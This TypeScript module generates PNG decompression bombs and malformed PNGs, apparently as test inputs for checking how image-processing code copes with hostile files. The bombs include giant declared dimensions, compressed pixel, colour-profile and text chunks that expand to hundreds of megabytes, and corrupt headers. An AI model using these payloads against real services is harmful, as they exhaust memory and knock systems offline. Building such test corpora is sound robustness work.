import { constants, crc32, deflateRawSync, deflateSync } from "node:zlib";
import { type Bomb, bombOf, bytesOf, noise, u32 } from "./bomb.js";

const SIGNATURE = bytesOf("89504e470d0a1a0a");
const BLOCK = 8 * 2 ** 20;

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  return Buffer.concat([u32(data.length), body, u32(crc32(body))]);
}

interface Head {
  width: number;
  height: number;
  depth?: number;
  colour?: number;
  isInterlaced?: boolean;
}

const head = ({ width, height, depth = 8, colour = 2, isInterlaced = false }: Head): Buffer =>
  chunk(
    "IHDR",
    Buffer.concat([u32(width), u32(height), Buffer.from([depth, colour, 0, 0, isInterlaced ? 1 : 0])]),
  );

/**
 * Returns a deflate stream that unpacks to the given number of zeros. It repeats one packed block, so that not all zeros are
 * packed.
 */
function packedZeros(bytes: number): Buffer {
  const block = deflateRawSync(Buffer.alloc(BLOCK), { finishFlush: constants.Z_FULL_FLUSH });
  return Buffer.concat([
    bytesOf("789c"),
    ...Array.from({ length: Math.ceil(bytes / BLOCK) }, () => block),
    bytesOf("0300"),
    u32(1),
  ]);
}

const file = (...parts: Buffer[]): Buffer =>
  Buffer.concat([SIGNATURE, ...parts, chunk("IEND", Buffer.alloc(0))]);
const bomb = (name: string, bytes: Buffer): Bomb => bombOf("image/png", `png ${name}`, bytes);

export const pngBombs = (): Bomb[] => [
  bomb(
    "of 30,000 x 30,000 bits in 100 KB",
    file(
      head({ width: 30_000, height: 30_000, depth: 1, colour: 0 }),
      chunk("IDAT", packedZeros(112_530_000)),
    ),
  ),
  bomb(
    "of 10,000 x 10,000 with alpha, 400 MB of pixels",
    file(head({ width: 10_000, height: 10_000, colour: 6 }), chunk("IDAT", packedZeros(400_010_000))),
  ),
  bomb(
    "of 12,000 x 9,000 in sixteen bits, 860 MB of pixels",
    file(
      head({ width: 12_000, height: 9000, colour: 6, depth: 16 }),
      chunk("IDAT", packedZeros(864_009_000)),
    ),
  ),
  bomb(
    "interlaced, of 8,000 x 6,000 with alpha",
    file(
      head({ width: 8000, height: 6000, colour: 6, isInterlaced: true }),
      chunk("IDAT", packedZeros(192_100_000)),
    ),
  ),
  bomb(
    "interlaced, of 11,000 x 10,000",
    file(
      head({ width: 11_000, height: 10_000, isInterlaced: true }),
      chunk("IDAT", packedZeros(330_100_000)),
    ),
  ),
  bomb(
    "that says 2^31 x 2^31",
    file(head({ width: 0x7fffffff, height: 0x7fffffff }), chunk("IDAT", deflateSync(""))),
  ),
  bomb(
    "that says 65,535 x 65,535",
    file(head({ width: 65_535, height: 65_535 }), chunk("IDAT", packedZeros(BLOCK))),
  ),
  bomb(
    "one pixel high and two million wide",
    file(head({ width: 2_000_000, height: 1 }), chunk("IDAT", packedZeros(BLOCK))),
  ),
  bomb(
    "with a colour profile that unpacks to 512 MB",
    file(
      head({ width: 8, height: 8 }),
      chunk("iCCP", Buffer.concat([Buffer.from("bomb\0\0", "latin1"), packedZeros(512 * 2 ** 20)])),
      chunk("IDAT", deflateSync(Buffer.alloc(200))),
    ),
  ),
  bomb(
    "with a description that unpacks to 512 MB",
    file(
      head({ width: 8, height: 8 }),
      chunk("zTXt", Buffer.concat([Buffer.from("bomb\0\0", "latin1"), packedZeros(512 * 2 ** 20)])),
      chunk("IDAT", deflateSync(Buffer.alloc(200))),
    ),
  ),
  bomb("of size zero", file(head({ width: 0, height: 0 }), chunk("IDAT", deflateSync("")))),
  bomb("without pixels", file(head({ width: 100, height: 100 }))),
  bomb("with pixels without sense", file(head({ width: 500, height: 500 }), chunk("IDAT", noise(20_000, 1)))),
  bomb("of which only the head is there", SIGNATURE),
  bomb(
    "with a chunk that says two gigabytes",
    Buffer.concat([SIGNATURE, u32(0x7fffffff), Buffer.from("IDAT"), noise(64, 2)]),
  ),
  bomb(
    "of a palette without colours",
    file(head({ width: 100, height: 100, colour: 3 }), chunk("IDAT", deflateSync(Buffer.alloc(10_100)))),
  ),
];
